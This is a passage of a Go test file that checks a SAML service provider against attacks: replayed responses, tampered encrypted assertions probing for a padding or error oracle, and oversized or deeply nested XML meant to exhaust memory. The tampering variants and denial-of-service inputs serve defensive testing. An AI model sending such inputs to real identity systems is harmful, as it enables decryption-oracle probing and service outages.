	if _, err := s.ValidateResponse(ctx, samltest.Encode(first), take()...); err != nil {
		t.Fatalf("control: %v", err)
	}
	second := samltest.DefaultIdP().MustResponse(t, samltest.Options{AssertionID: idFor("second"), NameID: mallory})
	_, err := s.ValidateResponse(ctx, samltest.Encode(second), take()...)
	checkRejection(t, err, []error{sp.ErrInResponseTo}, []string{samltest.RequestID})
}

// #29, INV-8: every way decryption can fail gives the same error text, so the SP is no
// padding or parsing oracle.
func TestAttackDecryptionFailuresLookAlike(t *testing.T) {
	spKey := samltest.DefaultSP()
	b := samltest.DefaultIdP().MustResponse(t, samltest.Options{EncryptTo: spKey.Cert})
	cipher := func(f func(c []byte)) func(doc *etree.Document) {
		return func(doc *etree.Document) {
			data := samltest.Find(doc.Root(), samltest.NSXMLEnc, "EncryptedData")
			var cv *etree.Element
			for _, c := range samltest.Children(data, samltest.NSXMLEnc, "CipherData") {
				cv = samltest.Child(c, samltest.NSXMLEnc, "CipherValue")
			}
			raw, _ := base64.StdEncoding.DecodeString(cv.Text())
			f(raw)
			cv.SetText(base64.StdEncoding.EncodeToString(raw))
		}
	}
	variants := map[string]func(doc *etree.Document){
		"IV flipped":           cipher(func(c []byte) { c[0] ^= 0x80 }),
		"last block flipped":   cipher(func(c []byte) { c[len(c)-1] ^= 0x01 }),
		"middle block flipped": cipher(func(c []byte) { c[len(c)/2] ^= 0xff }),
		"wrapped key flipped": func(doc *etree.Document) {
			cv := samltest.Find(samltest.Find(doc.Root(), samltest.NSXMLEnc, "EncryptedKey"), samltest.NSXMLEnc, "CipherValue")
			raw, _ := base64.StdEncoding.DecodeString(cv.Text())
			raw[10] ^= 1
			cv.SetText(base64.StdEncoding.EncodeToString(raw))
		},
	}
	var first string
	for name, f := range variants {
		forged, err := samltest.Edit(b, f)
		if err != nil {
			t.Fatal(err)
		}
		_, err = attackSP(t, attackConfig()).ValidateResponse(context.Background(), samltest.Encode(forged), samltest.RequestID)
		if err == nil {
			t.Fatalf("%s: accepted", name)
		}
		checkRejection(t, err, errMalformed, nil)
		// What the admin learns may differ in its hint; what is compared here is what
		// the outside sees: one kind, one check, one reason, one user message.
		var e *sp.Error
		errors.As(err, &e)
		got := e.Check + "|" + e.Received + "|" + sp.UserMessage(err)
		if first == "" {
			first = got
		} else if got != first {
			t.Errorf("%s: decryption failures differ (an oracle):\n%s\n%s", name, got, first)
		}
	}
	// Control: the same SP decrypts the untouched response.
	if _, err := attackSP(t, attackConfig()).ValidateResponse(context.Background(), samltest.Encode(b), samltest.RequestID); err != nil {
		t.Fatalf("control: %v", err)
	}
}

// --- limits (#26) -------------------------------------------------------------------

// allocated reports the bytes and objects f allocates. Tests compare them with a bound
// derived from the limit, never with wall time.
func allocated(f func()) (bytes, objects uint64) {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc, after.Mallocs - before.Mallocs
}

func TestAttackLimits(t *testing.T) {
	ctx := context.Background()
	good := samltest.DefaultIdP().MustResponse(t, samltest.Options{})
	inExtensions := func(inner string) []byte {
		return bytes.Replace(good, []byte("</samlp:Status>"), []byte("</samlp:Status><samlp:Extensions>"+inner+"</samlp:Extensions>"), 1)
	}
	values := func(n int) samltest.Options {
		v := make([]string, n)
		for i := range v {
			v[i] = fmt.Sprint("g", i)
		}
		return samltest.Options{Groups: v}
	}
	for _, tc := range []struct {
		name   string
		limits sp.Limits
		under  []byte // accepted with these limits
		over   []byte // rejected with these limits
	}{
		{
			name:   "MaxEncodedSize",
			limits: sp.Limits{MaxEncodedSize: len(samltest.Encode(good))},
			under:  good,
			over:   append(append([]byte{}, good...), ' ', ' ', ' ', ' '),
		},
		{
			name:   "MaxDecodedSize",
			limits: sp.Limits{MaxDecodedSize: len(good) + 16},
			under:  good,
			over:   inExtensions(strings.Repeat("<x/>", 8)),
		},
		{
			name:   "MaxDepth",
			limits: sp.Limits{MaxDepth: 12},
			under:  inExtensions(strings.Repeat("<x>", 9) + strings.Repeat("</x>", 9)),
			over:   inExtensions(strings.Repeat("<x>", 11) + strings.Repeat("</x>", 11)),
		},
		{
			name:   "MaxElements",
			limits: sp.Limits{MaxElements: 100},
			under:  good,
			over:   inExtensions(strings.Repeat("<x/>", 100)),
		},
		{
			name:   "MaxAttributeValues",
			limits: sp.Limits{MaxAttributeValues: 1000},
			under:  samltest.DefaultIdP().MustResponse(t, values(999)),
			over:   samltest.DefaultIdP().MustResponse(t, values(1001)),
		},
		{
			name:   "MaxComments",
			limits: sp.Limits{MaxComments: 2},
			under:  inExtensions("<!-- a --><!-- b -->"),
			over:   inExtensions("<!-- a --><!-- b --><!-- c -->"),
		},
		{
			name:   "MaxValueLength",
			limits: sp.Limits{MaxValueLength: 4096},
			under:  samltest.DefaultIdP().MustResponse(t, samltest.Options{Attributes: []samltest.Attribute{{Name: "big", Values: []string{strings.Repeat("a", 2000)}}}}),
			over:   samltest.DefaultIdP().MustResponse(t, samltest.Options{Attributes: []samltest.Attribute{{Name: "big", Values: []string{strings.Repeat("a", 5000)}}}}),
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := attackConfig()
			cfg.Limits = tc.limits
			if _, err := attackSP(t, cfg).ValidateResponse(ctx, samltest.Encode(tc.under), samltest.RequestID); err != nil {
				t.Fatalf("control: under the limit: %v", err)
			}
			_, err := attackSP(t, cfg).ValidateResponse(ctx, samltest.Encode(tc.over), samltest.RequestID)
			checkRejection(t, err, errMalformed, nil)
		})
	}
}

// Inputs far over a default limit are refused at a cost bounded by the limit, not by the
// input: each is compared with what accepting one ordinary response allocates.
func TestAttackLimitsCostIsBounded(t *testing.T) {
	ctx := context.Background()
	good := samltest.Encode(samltest.DefaultIdP().MustResponse(t, samltest.Options{}))
	s := attackSP(t, attackConfig())
	baseBytes, baseObjects := allocated(func() {
		if _, err := attackSP(t, attackConfig()).ValidateResponse(ctx, good, samltest.RequestID); err != nil {
			t.Fatal(err)
		}
	})
	xmlDoc := func(inner string) string {
		return samltest.Encode([]byte(`<samlp:Response xmlns:samlp="` + samltest.NSProtocol + `">` + inner + `</samlp:Response>`))
	}
	// Bounds: the objects allocated stay below what accepting one ordinary response takes
	// (no tree, no per-element work); the bytes stay within a small multiple of the
	// decoded input (8x leaves room for the race detector), itself capped by
	// MaxDecodedSize (the gate must read a token before
	// it can refuse it).
	gate := func(form string) (uint64, uint64) {
		return 8*uint64(base64.StdEncoding.DecodedLen(len(form))) + 2*baseBytes, baseObjects
	}
	deep := xmlDoc(strings.Repeat("<x>", 120000) + strings.Repeat("</x>", 120000))
	wide := xmlDoc(strings.Repeat("<x/>", 300000))
	long := xmlDoc(`<x a="` + strings.Repeat("a", 1<<20) + `"/>`)
	for _, tc := range []struct {
		name              string
		form              string
		maxBytes, maxObjs uint64
	}{
		// 48 MiB of form value: refused before decoding, so almost nothing is allocated.
		{"48 MiB form value", strings.Repeat("PHg+", 12<<20), 256 << 10, 2000},
		// Deep nesting: refused at depth 33, long before the 120,000th level.
		{"120,000 levels deep", deep, 0, 0},
		// 300,000 elements: refused at the 30,001st, before building a tree of them all.
		{"300,000 elements", wide, 0, 0},
		// One attribute value of 1 MiB: refused by MaxValueLength.
		{"1 MiB attribute value", long, 0, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.maxBytes == 0 {
				tc.maxBytes, tc.maxObjs = gate(tc.form)
			}
			var err error
			b, objs := allocated(func() { _, err = s.ValidateResponse(ctx, tc.form) })
			checkRejection(t, err, errMalformed, nil)
			t.Logf("%d bytes in %d objects allocated to refuse %d bytes of form value (an accepted response: %d bytes, %d objects)",
				b, objs, len(tc.form), baseBytes, baseObjects)
			if b > tc.maxBytes || objs > tc.maxObjs {
				t.Errorf("refusing cost %d bytes / %d objects, bound %d / %d", b, objs, tc.maxBytes, tc.maxObjs)
			}
		})
	}
}
